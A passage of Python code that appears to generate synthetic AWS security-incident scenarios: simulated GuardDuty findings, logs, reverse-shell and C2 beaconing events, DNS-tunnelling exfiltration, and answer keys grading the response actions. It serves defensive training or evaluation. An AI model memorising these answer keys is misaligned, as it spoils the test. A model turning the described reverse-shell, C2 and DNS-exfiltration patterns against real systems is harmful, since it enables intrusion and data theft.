           f"sysupdate in EC2 instance {web1['instance_id']}.", "RuntimeMonitoring", omit_action=True,
           runtime={"process": {"name": "sysupdate", "executablePath": "/var/tmp/.cache/sysupdate",
                                "executableSha256": rng.hexs(64), "pid": 24817, "namespacePid": 24817,
                                "pwd": "/var/tmp/.cache", "startTime": iso(t_bin), "uuid": rng.uuid(),
                                "parentUuid": lineage[0]["uuid"], "user": "tomcat", "userId": 996, "euid": 996,
                                "lineage": lineage},
                    "context": {"modifyingProcess": {"name": "curl", "executablePath": "/usr/bin/curl",
                                                     "pid": 24790, "userId": 996, "euid": 996},
                                "modifiedAt": iso(t_payload + 4)}},
           note="The downloaded payload runs as the tomcat user, a child of the Tomcat JVM.")
    gd.add("Execution:Runtime/ReverseShell", 8.0, region, gd.instance_details(web1), {},
           t_shell, t_shell, 1, t_shell + 67, t_shell + 67,
           f"A process in EC2 instance {web1['instance_id']} created a reverse shell.",
           f"Process bash in EC2 instance {web1['instance_id']} created a reverse shell, whose standard input "
           f"and output are redirected to a remote socket.", "RuntimeMonitoring", envelope="eventbridge",
           runtime={"process": {"name": "bash", "executablePath": "/usr/bin/bash",
                                "executableSha256": rng.hexs(64), "pid": 24861, "namespacePid": 24861,
                                "pwd": "/opt/tomcat/bin", "startTime": iso(t_shell), "uuid": rng.uuid(),
                                "parentUuid": lineage[0]["uuid"], "user": "tomcat", "userId": 996, "euid": 996,
                                "lineage": lineage},
                    "context": {}},
           note="bash with stdin/stdout on a socket to 203.0.113.45:4444, spawned by the Tomcat JVM. Delivered "
                "as an EventBridge event.")
    gd.add("Backdoor:EC2/C&CActivity.B", 8, region, gd.instance_details(web1),
           gd.net_action("OUTBOUND", C2, 443, "HTTPS", 44310, "Unknown", w1ip),
           beacons[0], beacons[-1], len(beacons), beacons[0] + 997, beacons[-1] + 60,
           f"EC2 instance {web1['instance_id']} is communicating with a Command & Control server.",
           f"EC2 instance {web1['instance_id']} is communicating with {C2}, an IP address associated with a "
           f"known Command & Control server.", "FlowLogs",
           additional={"threatListName": "ProofPoint"},
           evidence={"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["C2"]}]},
           note="Once-a-minute beacon to 198.51.100.77 (api.telemetry-sync.example) until the end of the data.")
    gd.add("Discovery:IAMUser/AnomalousBehavior", 2, region,
           gd.access_key(disc_key, f"{w.role['web-tier-role']['role_id']}:{web1['instance_id']}",
                         "web-tier-role", "AssumedRole"),
           gd.api_action("ListBuckets", "s3.amazonaws.com", web1["public_ip"]),
           t_disc, t_disc_last, 24, t_disc + 1181, t_disc_last + 1500,
           "User AssumedRole : web-tier-role is anomalously invoking APIs commonly used in Discovery tactics.",
           "APIs commonly used in Discovery tactics were invoked by user AssumedRole : web-tier-role under unusual "
           "circumstances. Such activity is not typically seen from this user.", "CloudTrail",
           additional={"anomalies": {"anomalousAPIs": "s3.amazonaws.com:[ListBuckets:success] "
                                                      "iam.amazonaws.com:[ListRoles:AccessDenied ListUsers:AccessDenied] "
                                                      "sts.amazonaws.com:[GetCallerIdentity:success]"},
                       "unusualBehavior": {"isUnusualUserIdentity": "false",
                                           "unusualAPIsUserIdentityProfiling": "ListBuckets,GetCallerIdentity,ListRoles",
                                           "unusualUserAgentsUserIdentityProfiling": "aws-cli"}},
           note="The web tier's own instance-role session, used from the instance with the AWS CLI: the attacker "
                "looking around with the role's credentials.")
    _ = first_lb

    sc.answer = {
        "compromised": [f"instance:{web1['instance_id']}",
                        f"session:arn:aws:sts::{acct}:assumed-role/web-tier-role/{web1['instance_id']}",
                        f"role:{w.role['web-tier-role']['arn']}", f"key:{disc_key}"],
        "attacker_ips": [A, C2],
        "attacker_domains": [C2_DOMAIN],
        "right_actions": [], "wrong_actions": [],
    }
    sc.threat_intel = (
        "# vigil demo threat intel: log4shell-c2\n"
        "# One indicator per line (IPv4/IPv6 address or domain); '#' starts a comment.\n"
        "# This list is uploaded to GuardDuty as the custom threat list 'vigil-intel'.\n"
        f"{A}\t# log4shell exploit server (LDAP 1389, HTTP 8000)\n"
        "203.0.113.46\t# same operator, not seen here\n"
        f"telemetry-sync.example\t# C2 zone\n")
    sc.noise = {"scanner_ips": ["198.51.100.23", "198.51.100.24", "198.51.100.131"],
                "description": "Internet scanners and an SSH brute-forcer hitting the bastion; a GuardDuty sample."}

    def actions(findings_by_type):
        rs = findings_by_type["Execution:Runtime/ReverseShell"]
        sc.answer["right_actions"] = [
            {"action": "notify", "target": f"finding:{rs}"},
            {"action": "snapshot", "target": f"instance:{web1['instance_id']}"},
            {"action": "quarantine", "target": f"instance:{web1['instance_id']}"},
        ]
        sc.answer["wrong_actions"] = [
            {"action": "quarantine", "target": f"instance:{web2['instance_id']}",
             "why": "web-2 is web-1's healthy twin in the same ASG: same AMI, tags and role, but none of its flows "
                    "or DNS queries touch 203.0.113.45 or the C2; isolating it halves capacity for nothing."},
            {"action": "quarantine", "target": f"instance:{bastion['instance_id']}",
             "why": "The bastion findings are internet noise (a scanner and a failed brute force); nothing links "
                    "them to the web tier's compromise."},
        ]
    sc.finish = actions
    return sc


# --------------------------------------------------------------------------------------------------
# scenario 2: dns-c2-exfil


def dns_c2(out: Path) -> Scenario:
    rng = Rng(20250408)
    acct, region = "729104558321", "eu-west-1"
    start, end = ts("2025-04-08T01:00:00Z"), ts("2025-04-08T07:00:00Z")
    # us-east-1 too: the console sign-in and account (global service) events are logged there
    w = World(rng, acct, region, [region, "us-east-1"])
    sc = Scenario("dns-c2-exfil", "DNS C2 and exfiltration from an internal report worker",
                  "Malware pulled in by the nightly report job on an internal worker (no public IP) tries a burst "
                  "of algorithmically generated domains, finds its C2 at api.cdn-updates-sync.example, beacons to "
                  "it over HTTPS through the NAT gateway and tunnels data out in long TXT queries under "
                  "x.cdn-updates-sync.example. A scanner probes the bastion, the root user signs in to update the "
                  "billing contact, and someone generates a sample finding.", w, start, end, rng)
    sc.story = [
        "01:18-04:05 two scanners probe the bastion's open SSH port (Recon:EC2/PortProbeUnprotectedPort): noise.",
        "02:09 the nightly report job on report-worker-1 installs its Python dependencies from PyPI.",
        "02:11:03 report-worker-1 queries 40 random-looking domains in 50 s, all NXDOMAIN (Trojan:EC2/DGADomainRequest.B).",
        "02:11:58 it resolves api.cdn-updates-sync.example (203.0.113.77, 203.0.113.78): Backdoor:EC2/C&CActivity.B!DNS.",
        "02:12:05 HTTPS beacons to 203.0.113.77/78 every five minutes through the NAT gateway (Backdoor:EC2/C&CActivity.B).",
        "02:13 the malware checks the instance-role credentials (sts GetCallerIdentity, a denied ListBuckets).",
        "02:30-03:14 and 04:40-05:04 long TXT queries under x.cdn-updates-sync.example carry data out (Trojan:EC2/DNSDataExfiltration).",
        "05:41 the root user signs in to change the billing contact (Policy:IAMUser/RootCredentialUsage): unrelated.",
        "Response: quarantine report-worker-1, notify, add cdn-updates-sync.example to the DNS Firewall block list.",
    ]
    C2A, C2B = "203.0.113.77", "203.0.113.78"
    G = {
        C2A: geo("64505", "EXAMPLE-HOSTING-NET", "Example Hosting Networks SRL", "Romania", "Bucharest", 44.4268, 26.1025),
        C2B: geo("64505", "EXAMPLE-HOSTING-NET", "Example Hosting Networks SRL", "Romania", "Bucharest", 44.4268, 26.1025),
        "198.51.100.140": geo("64510", "EXAMPLE-RESEARCH-SCAN", "Example Internet Research GmbH", "Germany",
                              "Frankfurt am Main", 50.1109, 8.6821),
        "198.51.100.141": geo("64512", "EXAMPLE-TRANSIT", "Example Transit Corp", "United States", "Chicago",
                              41.8500, -87.6500),
        "192.0.2.71": geo("64520", "EXAMPLE-FIBER", "Example Fiber AS", "Norway", "Oslo", 59.9127, 10.7461),
    }
    sc.gd.geo = G
    azid = {"eu-west-1a": "euw1-az3", "eu-west-1b": "euw1-az1"}

    w.add_vpc("corp-internal", "10.40.0.0/16")
    w.add_subnet("corp-public-a", "corp-internal", "10.40.0.0/24", "eu-west-1a", True)
    w.add_subnet("corp-private-a", "corp-internal", "10.40.12.0/24", "eu-west-1a", False)
    w.add_subnet("corp-private-b", "corp-internal", "10.40.13.0/24", "eu-west-1b", False)
    w.add_sg("bastion", "corp-internal", "SSH bastion", [("tcp", 22, 22, "0.0.0.0/0", "SSH")])
    w.add_sg("report-workers", "corp-internal", "Nightly report workers",
             [("tcp", 22, 22, "sg:bastion", "SSH from the bastion")])
    w.add_sg("wiki", "corp-internal", "Internal wiki",
             [("tcp", 443, 443, "10.250.0.0/16", "HTTPS from Client VPN"), ("tcp", 22, 22, "sg:bastion", "SSH")])
    w.add_sg("ci-runners", "corp-internal", "Self-hosted CI runners", [("tcp", 22, 22, "sg:bastion", "SSH")])
    nat = w.add_nat("corp-public-a", "10.40.0.100", "192.0.2.150")
    for r, d in (("report-worker-role", "Nightly reports"), ("wiki-role", "Wiki backups"),
                 ("ci-runner-role", "CI runners"), ("bastion-role", "SSM for the bastion")):
        w.add_role(r, instance_profile=True, description=d)
    w.add_role("AWSServiceRoleForConfig", path="/aws-service-role/config.amazonaws.com/", trust="config.amazonaws.com")
    ami = "ami-0" + rng.hexs(16)
    wk1 = w.add_instance("report-worker", "m6i.xlarge", "corp-private-a", "10.40.12.57", ["report-workers"], None,
                         "report-worker-role", "report-workers", launched="2025-04-01T18:02:33Z", image=ami,
                         volumes=(("/dev/xvda", 50),), tags={"env": "prod", "team": "data", "job": "nightly-reports"})
    wk2 = w.add_instance("report-worker", "m6i.xlarge", "corp-private-a", "10.40.12.91", ["report-workers"], None,
                         "report-worker-role", "report-workers", launched="2025-04-03T07:45:10Z", image=ami,
                         volumes=(("/dev/xvda", 50),), tags={"env": "prod", "team": "data", "job": "nightly-reports"})
    wiki = w.add_instance("wiki", "t3.medium", "corp-private-b", "10.40.13.20", ["wiki"], None, "wiki-role",
                          launched="2024-12-11T10:00:00Z", image="ami-0" + rng.hexs(16),
                          volumes=(("/dev/xvda", 30), ("/dev/sdf", 100)), tags={"env": "prod", "team": "it"})
    ci = w.add_instance("ci-runner", "c6i.2xlarge", "corp-private-b", "10.40.13.44", ["ci-runners"], None,
                        "ci-runner-role", launched="2025-03-30T12:00:00Z", image="ami-0" + rng.hexs(16),
                        volumes=(("/dev/xvda", 200),), tags={"env": "prod", "team": "platform"})
    bastion = w.add_instance("bastion", "t3.micro", "corp-public-a", "10.40.0.10", ["bastion"], "192.0.2.90",
                             "bastion-role", launched="2024-10-01T09:00:00Z", image="ami-0" + rng.hexs(16),
                             tags={"env": "prod", "team": "it"})
    w.add_asg("report-workers", [wk1, wk2], 2, 2, 2, {"name": "report-worker-lt", "version": "12"})
    w.add_user("erik.larsen", "2022-08-30T09:14:00Z", keys=0, console=True, groups=["Admins"])
    w.add_user("fatima.rahman", "2023-03-02T12:30:45Z", groups=["DataEngineers"])
    for b, pol in (("acme-reports-eu-" + acct, True), ("acme-ci-artifacts-" + acct, False),
                   ("acme-cloudtrail-" + acct, True)):
        w.d["buckets"].append({"name": b, "region": region, "arn": f"arn:aws:s3:::{b}", "policy": pol})
    w.d["sns_topics"].append({"arn": f"arn:aws:sns:{region}:{acct}:security-alerts", "name": "security-alerts"})
    w.d["trails"].append({"name": "management-events", "arn": f"arn:aws:cloudtrail:{region}:{acct}:trail/management-events",
                          "home_region": region, "s3_bucket": "acme-cloudtrail-" + acct, "is_logging": True,
                          "multi_region": True})
    det = w.detector_id(region)

    T = sc.trail
    fl = Flows(rng, w, "corp-internal", V5_FIELDS, 5, region, azid)
    fl.limit = end
    sc.flows.append(fl)
    dn = Dns(rng, w, "corp-internal", region)
    sc.dns.append((dn, None))
    natinfo = (nat["eni_id"], nat["private_ip"])
    eni = {i["instance_id"]: i["enis"][0]["eni_id"] for i in w.d["instances"]}

    # background ----------------------------------------------------------------------------------
    sess = {}
    for inst in (wk1, wk2, wiki, ci, bastion):
        sess[inst["instance_id"]] = instance_session(w, T, inst, start, end, "2.0",
                                                     inst["public_ip"] or nat["public_ip"])
        ssm_agent(T, sess[inst["instance_id"]], inst, start, end)
    cfg = role_session(w, rng, "AWSServiceRoleForConfig", "AWSConfig-Describe", start, end, "config.amazonaws.com",
                       CONFIG_UA, "service-linked")
    config_sweeps(T, cfg, start, end, every=600)
    py_ua = ("Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.84-99.169.amzn2023.x86_64 md/arch#x86_64 "
             "lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.69")
    reports = "acme-reports-eu-" + acct
    for inst in (wk1, wk2):
        job = Actor("AssumedRole", nat["public_ip"], py_ua, role=w.role["report-worker-role"],
                    session=inst["instance_id"], creds=sess[inst["instance_id"]].creds, delivery="2.0", account=acct)
        for t in periodic(rng, start, end, 300, 30):
            read_call(T, t, job, "GetParameters", names=["/reports/prod/db-dsn", "/reports/prod/smtp"])
            read_call(T, t + 2, job, "GetBucketLocation", bucket=reports)
    ci_job = Actor("AssumedRole", nat["public_ip"], GHA_UA.format(cmd="ecr.get-login-password"),
                   role=w.role["ci-runner-role"], session=ci["instance_id"], creds=sess[ci["instance_id"]].creds,
                   delivery="2.0", account=acct)
    builds = periodic(rng, start + 300, end - 900, 1200, 120)
    for b in builds:
        read_call(T, b + 20, ci_job, "GetAuthorizationToken")
        read_call(T, b + 25, ci_job, "GetCallerIdentity")
        for k in range(8):
            read_call(T, b + 60 + k * 30, ci_job, "GetBucketLocation", bucket="acme-ci-artifacts-" + acct)
    backup_role = w.add_role("AWSServiceRoleForBackup", path="/aws-service-role/backup.amazonaws.com/",
                             trust="backup.amazonaws.com")
    bk = role_session(w, rng, "AWSServiceRoleForBackup", "AWSBackup-AWSServiceRoleForBackup", start, end,
                      "backup.amazonaws.com", "backup.amazonaws.com", "service-linked")
    t = ts("2025-04-08T03:00:41Z")
    for v in wiki["volumes"]:
        snap = "snap-0" + rng.hexs(16)
        T.ev(t, bk, "ec2.amazonaws.com", "CreateSnapshot",
             req={"volumeId": v["volume_id"], "description": "This snapshot is created by the AWS Backup service."},
             resp={"requestId": rng.uuid(), "snapshotId": snap, "volumeId": v["volume_id"], "status": "pending",
                   "startTime": t * 1000, "progress": "", "ownerId": acct, "volumeSize": v["size_gib"],
                   "encrypted": True}, read_only=False)
        w.d["snapshots"].append({"snapshot_id": snap, "volume_id": v["volume_id"], "instance_id": wiki["instance_id"],
                                 "region": region, "created": iso(t), "encrypted": True, "shared_with": [],
                                 "created_by": "AWS Backup"})
        for k in range(8):
            read_call(T, t + 60 + k * 120, bk, "DescribeSnapshots", snaps=items("snapshotId", [snap]))
        t += 7
    er_login = ts("2025-04-08T06:02:10Z")
    er = console_user(w, rng, "erik.larsen", "192.0.2.71", [er_login])
    console_login(T, er, er_login)
    human_burst(T, er, er_login + 40, 30,
                [("DescribeInstances", {}), ("DescribeInstanceStatus", {}), ("ListDetectors", {}),
                 ("GetDetector", {"detector": det}), ("DescribeAlarms", {}), ("GetMetricData", {}),
                 ("DescribeAutoScalingGroups", {"asgs": ["report-workers"]}), ("ListBuckets", {})], 30)
    sample_t = ts("2025-04-08T06:12:31Z")
    T.ev(sample_t, er, "guardduty.amazonaws.com", "CreateSampleFindings",
         req={"detectorId": det, "findingTypes": ["Recon:EC2/Portscan"]}, read_only=False)
    fa = cli_user(w, "fatima.rahman", "2001:db8:77:1f00::2a", CLI_UA.format(cmd="s3api.get-bucket-location"))
    for t0 in (ts("2025-04-08T05:30:00Z"), ts("2025-04-08T06:35:00Z")):
        human_burst(T, fa, t0, 20, [("GetBucketLocation", {"bucket": reports}), ("GetCallerIdentity", {}),
                                    ("DescribeLogGroups", {}), ("FilterLogEvents", {"group": "/reports/nightly"}),
                                    ("DescribeInstances", {"ids": [wk1["instance_id"], wk2["instance_id"]]})], 25)
    # root, to update the billing contact
    root_t = ts("2025-04-08T05:41:12Z")
    root_cred = w.temp_cred("console", f"arn:aws:iam::{acct}:root", root_t, 3600, user_arn=f"arn:aws:iam::{acct}:root")
    root = Actor("Root", "192.0.2.71", BROWSER_UA, arn=f"arn:aws:iam::{acct}:root", creds=[(root_t, root_cred["access_key_id"])],
                 mfa=True, account=acct)
    console_login(T, root, root_t)
    T.ev(root_t + 35, root, "account.amazonaws.com", "GetContactInformation", region="us-east-1", req=None)
    T.ev(root_t + 95, root, "account.amazonaws.com", "PutContactInformation", region="us-east-1",
         req={"contactInformation": "HIDDEN_DUE_TO_SECURITY_REASONS"}, read_only=False)
    T.ev(root_t + 130, root, "account.amazonaws.com", "GetContactInformation", region="us-east-1", req=None)

    # benign network and DNS -----------------------------------------------------------------------
    s3_ips = ["52.218.48.34", "52.218.61.122", "52.92.18.210"]
    aws_a = {f"ssm.{region}.amazonaws.com": ["52.95.121.14"], f"ec2messages.{region}.amazonaws.com": ["52.95.121.30"],
             f"s3.{region}.amazonaws.com": s3_ips, f"sqs.{region}.amazonaws.com": ["52.94.217.55"],
             f"sts.{region}.amazonaws.com": ["52.95.114.214"]}
    for inst in (wk1, wk2, wiki, ci, bastion):
        for t in periodic(rng, start, end, 600, 60):
            name = rng.choice([f"ssm.{region}.amazonaws.com", f"ec2messages.{region}.amazonaws.com"])
            dn.q(t, inst, name, answers=aws_a[name])
            fl.conn(eni[inst["instance_id"]], inst["private_ip"], aws_a[name][0], rng.randint(32768, 60999), 443,
                    "tcp", t + 1, 2, (8, 3100), (7, 5200), nat=natinfo if inst is not bastion else None)
    for inst in (wk1, wk2):
        for t in periodic(rng, start, end, 120, 30):
            dn.q(t, inst, f"s3.{region}.amazonaws.com", answers=[rng.choice(s3_ips)])
            if rng.random() < 0.6:
                fl.conn(eni[inst["instance_id"]], inst["private_ip"], rng.choice(s3_ips), rng.randint(32768, 60999),
                        443, "tcp", t + 1, rng.randint(2, 50), (rng.randint(40, 900), rng.randint(40000, 4000000)),
                        (rng.randint(30, 400), rng.randint(6000, 40000)))
            if rng.random() < 0.4:
                dn.q(t + 5, inst, f"sqs.{region}.amazonaws.com", answers=aws_a[f"sqs.{region}.amazonaws.com"])
        for t in periodic(rng, start, end, 900, 60):
            dn.q(t, inst, "reports-db.corp.internal",
                 answers=[("CNAME", "reports.cluster-c9x8k2m1qa7z.eu-west-1.rds.amazonaws.com."), ("A", "10.40.13.61")])
    pypi = [("pypi.org", ["151.101.128.223", "151.101.0.223"]),
            ("files.pythonhosted.org", [("CNAME", "dualstack.python.map.fastly.net."), ("A", "151.101.1.63")])]
    for t0, inst in ((ts("2025-04-08T02:09:40Z"), wk1),):
        for k, (name, ans) in enumerate(pypi * 3):
            dn.q(t0 + k * 4, inst, name, answers=ans)
        for k in range(6):
            fl.conn(eni[inst["instance_id"]], inst["private_ip"], "151.101.1.63", rng.randint(32768, 60999), 443,
                    "tcp", t0 + 5 + k * 6, 3, (40, 4000), (300, 420000), nat=natinfo)
    for b in builds:
        for k, name in enumerate(["github.com", "api.github.com", "ghcr.io", "pkg-containers.githubusercontent.com",
                                  "pypi.org", "files.pythonhosted.org"]):
            dn.q(b + k * 3, ci, name, answers={"github.com": ["140.82.121.3"], "api.github.com": ["140.82.121.6"],
                                             "ghcr.io": ["140.82.121.33"],
                                             "pkg-containers.githubusercontent.com": ["185.199.108.154"],
                                             "pypi.org": ["151.101.128.223"],
                                             "files.pythonhosted.org": ["151.101.1.63"]}[name])
        for k in range(10):
            fl.conn(eni[ci["instance_id"]], ci["private_ip"], rng.choice(["140.82.121.3", "140.82.121.33",
                                                                          "185.199.108.154", "151.101.1.63"]),
                    rng.randint(32768, 60999), 443, "tcp", b + 10 + k * 20, rng.randint(2, 30),
                    (rng.randint(20, 200), rng.randint(3000, 30000)), (rng.randint(100, 3000), rng.randint(100000, 9000000)),
                    nat=natinfo)
    for k in range(3):
        fl.nodata(eni[ci["instance_id"]], start + 600 * (k + 1), start + 600 * (k + 1) + 60)
    vpn = [f"10.250.{rng.randint(0, 3)}.{rng.randint(2, 250)}" for _ in range(12)]
    for t in periodic(rng, ts("2025-04-08T05:00:00Z"), end, 90, 30):
        fl.conn(eni[wiki["instance_id"]], wiki["private_ip"], rng.choice(vpn), 443, rng.randint(40000, 60999), "tcp",
                t, rng.randint(1, 30), (rng.randint(10, 80), rng.randint(20000, 300000)),
                (rng.randint(8, 30), rng.randint(1500, 6000)), outbound=False)
    fl.conn(eni[bastion["instance_id"]], bastion["private_ip"], "192.0.2.71", 22, 52214, "tcp",
            ts("2025-04-08T06:05:00Z"), 900, (700, 120000), (800, 70000), outbound=False)

    # scanner (noise) -----------------------------------------------------------------------------
    b_eni = eni[bastion["instance_id"]]
    probe_times = []
    for scanner, hhmm in (("198.51.100.140", "01:18:44"), ("198.51.100.141", "02:44:09"), ("198.51.100.140", "04:05:37")):
        t = ts(f"2025-04-08T{hhmm}Z")
        probe_times.append(t)
        fl.conn(b_eni, bastion["private_ip"], scanner, 22, rng.randint(40000, 65000), "tcp", t, 1, (2, 84), (1, 44),
                outbound=False)
        for p in (23, 80, 443, 3389, 6379):
            fl.conn(b_eni, bastion["private_ip"], scanner, p, rng.randint(40000, 65000), "tcp", t + 1, 1, (0, 0),
                    (1, 44), outbound=False, action="REJECT")

    # the attack ----------------------------------------------------------------------------------
    zone = "cdn-updates-sync.example"
    c2_name = "api." + zone
    w1 = wk1["instance_id"]
    t_dga = ts("2025-04-08T02:11:03Z")
    tlds = [".example", ".test", ".invalid"]
    dga = []
    for k in range(40):
        label = rng.of("abcdefghijklmnopqrstuvwxyz0123456789", rng.randint(12, 16))
        name = label + rng.choice(tlds)
        dga.append(name)
        dn.q(t_dga + int(k * 1.25), wk1, name, rcode="NXDOMAIN")
    for t0 in periodic(rng, t_dga + 1800, end - 60, 1800, 30, phase=0):
        for k in range(6):
            label = rng.of("abcdefghijklmnopqrstuvwxyz0123456789", rng.randint(12, 16))
            dn.q(t0 + k * 2, wk1, label + rng.choice(tlds), rcode="NXDOMAIN")
    t_c2 = ts("2025-04-08T02:11:58Z")
    dn.q(t_c2, wk1, c2_name, answers=[C2A, C2B])
    beacons = []
    for t in periodic(rng, t_c2 + 7, end - 30, 300, 20, phase=0):
        if t - t_c2 > 240:
            dn.q(t - 2, wk1, c2_name, answers=[C2A, C2B])
        ip = C2A if rng.random() < 0.7 else C2B
        beacons.append((t, ip))
        fl.conn(eni[w1], wk1["private_ip"], ip, rng.randint(32768, 60999), 443, "tcp", t, 2,
                (rng.randint(9, 14), rng.randint(1400, 2600)), (rng.randint(8, 12), rng.randint(900, 1800)), nat=natinfo)
    tun = []
    sess_id = rng.hexs(6)
    for t0, t1, n in ((ts("2025-04-08T02:30:10Z"), ts("2025-04-08T03:14:00Z"), 420),
                      (ts("2025-04-08T04:40:00Z"), ts("2025-04-08T05:04:30Z"), 280)):
        step = (t1 - t0) / n
        for k in range(n):
            t = int(t0 + k * step + rng.uniform(0, step * 0.5))
            seq = len(tun)
            name = f"{seq:04x}.{rng.of('abcdefghijklmnopqrstuvwxyz234567', 52)}.{rng.of('abcdefghijklmnopqrstuvwxyz234567', rng.randint(20, 40))}.{sess_id}.x.{zone}"
            dn.q(t, wk1, name, qtype="TXT", answers=[f"\"{rng.hexs(2)}\""])
            tun.append(t)
    # the malware checks the role credentials it found
    mal = Actor("AssumedRole", nat["public_ip"], py_ua, role=w.role["report-worker-role"], session=w1,
                creds=sess[w1].creds, delivery="2.0", account=acct)
    t = ts("2025-04-08T02:13:20Z")
    read_call(T, t, mal, "GetCallerIdentity", attack=True)
    read_call(T, t + 2, mal, "ListBuckets", attack=True, error=("AccessDenied", "Access Denied"))
    read_call(T, t + 5, mal, "DescribeInstances", attack=True,
              error=T.denied(mal, t + 5, "ec2:DescribeInstances", ec2=True))
    stolen_key = mal.cred_at(t)[1]

    # findings ------------------------------------------------------------------------------------
    gd = sc.gd
    gd.add_sample("Recon:EC2/Portscan", 5, region, sample_t + 21,
                  "Outbound portscan from EC2 instance i-99999999.",
                  "EC2 instance i-99999999 is performing outbound port scans against remote host 198.51.100.0.",
                  {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                      "connectionDirection": "OUTBOUND", "remoteIpDetails": gd.sample_remote(),
                      "remotePortDetails": {"port": 22, "portName": "SSH"},
                      "localPortDetails": {"port": 2000, "portName": "Unknown"}, "protocol": "TCP",
                      "blocked": False}},
                  note="A GuardDuty sample generated by erik.larsen at 06:12 while testing alert routing.")
    gd.add("Recon:EC2/PortProbeUnprotectedPort", 2, region, gd.instance_details(bastion),
           gd.probe_action([(22, "SSH", bastion["private_ip"], "198.51.100.140"),
                            (22, "SSH", bastion["private_ip"], "198.51.100.141")]),
           min(probe_times), max(probe_times), 3, min(probe_times) + 877, max(probe_times) + 512,
           f"Unprotected port on EC2 instance {bastion['instance_id']} is being probed.",
           f"EC2 instance {bastion['instance_id']} has an unprotected port which is being probed by a known "
           f"malicious host.", "FlowLogs", additional={"threatName": "Scanner", "threatListName": "ProofPoint"},
           envelope="s3export", note="Internet scanners on the bastion's open SSH port: noise.")
    gd.add("Trojan:EC2/DGADomainRequest.B", 8, region, gd.instance_details(wk1), gd.dns_action(dga[0]),
           t_dga, t_dga + 49 * 60, 64, t_dga + 938, t_dga + 49 * 60 + 600,
           f"DGA domain name queried by EC2 instance {w1}.",
           f"EC2 instance {w1} is querying algorithmically generated domains. Such domains are commonly used by "
           f"malware and could be an indication of a compromised EC2 instance.", "DnsLogs",
           additional={"domain": dga[0]}, envelope="s3export",
           note="40 NXDOMAIN lookups of random names in 50 seconds, then a few every half hour.")
    gd.add("Backdoor:EC2/C&CActivity.B!DNS", 8, region, gd.instance_details(wk1), gd.dns_action(c2_name),
           t_c2, beacons[-1][0] - 2, len(beacons), t_c2 + 1152, beacons[-1][0] + 300,
           f"Command and Control server domain name queried by EC2 instance {w1}.",
           f"EC2 instance {w1} is querying a domain name associated with a known Command & Control server.",
           "DnsLogs", additional={"threatListName": "ProofPoint"},
           evidence={"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": ["tinyloader"]}]},
           envelope="s3export", note="The C2 name resolves to 203.0.113.77 and 203.0.113.78.")
    gd.add("Backdoor:EC2/C&CActivity.B", 8, region, gd.instance_details(wk1),
           gd.net_action("OUTBOUND", C2A, 443, "HTTPS", 51872, "Unknown", wk1["private_ip"]),
           beacons[0][0], beacons[-1][0], len([b for b in beacons if b[1] == C2A]), beacons[0][0] + 1689,
           beacons[-1][0] + 120,
           f"EC2 instance {w1} is communicating with a Command & Control server.",
           f"EC2 instance {w1} is communicating with {C2A}, an IP address associated with a known Command & "
           f"Control server.", "FlowLogs", additional={"threatListName": "ProofPoint"},
           envelope="s3export", note="Five-minute HTTPS beacons leave through the NAT gateway (192.0.2.150).")
    gd.add("Trojan:EC2/DNSDataExfiltration", 8, region, gd.instance_details(wk1), gd.dns_action(zone),
           tun[0], tun[-1], len(tun), tun[0] + 1911, tun[-1] + 380,
           f"Data exfiltration through DNS queries from EC2 instance {w1}.",
           f"EC2 instance {w1} is attempting to exfiltrate data by performing DNS queries.", "DnsLogs",
           envelope="eventbridge",
           note="Hundreds of TXT queries with 100-character base32 labels under x.cdn-updates-sync.example.")
    gd.add("Policy:IAMUser/RootCredentialUsage", 2, region,
           gd.access_key(root_cred["access_key_id"], acct, "Root", "Root"),
           gd.api_action("PutContactInformation", "account.amazonaws.com", "192.0.2.71"),
           root_t + 35, root_t + 130, 3, root_t + 842, root_t + 842,
           "The API PutContactInformation was invoked using root credentials.",
           "The API PutContactInformation was invoked using root credentials from IP address 192.0.2.71.",
           "CloudTrail", envelope="s3export",
           note="The root user updating the billing contact from the office: unrelated to the incident.")
    sc.answer = {
        "compromised": [f"instance:{w1}", f"session:arn:aws:sts::{acct}:assumed-role/report-worker-role/{w1}",
                        f"key:{stolen_key}"],
        "attacker_ips": [C2A, C2B],
        "attacker_domains": [zone, c2_name, dga[0]],
        "right_actions": [], "wrong_actions": [],
    }
    sc.threat_intel = (
        "# vigil demo threat intel: dns-c2-exfil\n"
        "# One indicator per line (IPv4/IPv6 address or domain); '#' starts a comment.\n"
        "# From a (fictional) ISAC feed for the 'tinyloader' family, 2025-04-07.\n"
        f"{C2A}\t# tinyloader C2\n"
        f"{C2B}\t# tinyloader C2\n"
        f"{zone}\t# C2 and DNS tunnel zone\n"
        f"{c2_name}\n"
        "# other indicators from the same feed (not seen in this account)\n"
        "203.0.113.79\n"
        "static-cdn-sync.example\n"
        "2001:db8:bad::53\n")
    sc.noise = {"scanner_ips": ["198.51.100.140", "198.51.100.141"],
                "description": "Scanners on the bastion, the root user updating the billing contact, a sample finding."}

    def actions(by_type):
        sc.answer["right_actions"] = [
            {"action": "quarantine", "target": f"instance:{w1}"},
            {"action": "notify", "target": f"finding:{by_type['Trojan:EC2/DNSDataExfiltration']}"},
            {"action": "block-domain", "target": f"domain:{zone}"},
        ]
        sc.answer["wrong_actions"] = [
            {"action": "quarantine", "target": f"instance:{wk2['instance_id']}",
             "why": "report-worker-2 runs the same job from the same AMI but never resolved the C2 or the DGA "
                    "names; the nightly job only ran on worker-1."},
            {"action": "quarantine", "target": f"instance:{bastion['instance_id']}",
             "why": "The bastion's port probes are internet noise, unrelated to the internal worker."},
            {"action": "block-domain", "target": f"domain:s3.{region}.amazonaws.com",
             "why": "The busiest name in the resolver logs is the S3 endpoint every worker uploads to; blocking "
                    "it breaks the reports, not the malware."},
        ]
    sc.finish = actions
    return sc


# --------------------------------------------------------------------------------------------------
# scenario 3: iam-credential-chain


def iam_chain(out: Path) -> Scenario:
    rng = Rng(20250520)
    acct, region = "306418827590", "us-east-1"
    far = "ap-southeast-2"
    regions = [region, "us-west-2", "eu-west-1", far]
    start, end = ts("2025-05-20T06:00:00Z"), ts("2025-05-20T18:00:00Z")
    w = World(rng, acct, region, regions)
    sc = Scenario("iam-credential-chain", "Stolen instance-role credentials: from SSRF to crypto-mining",
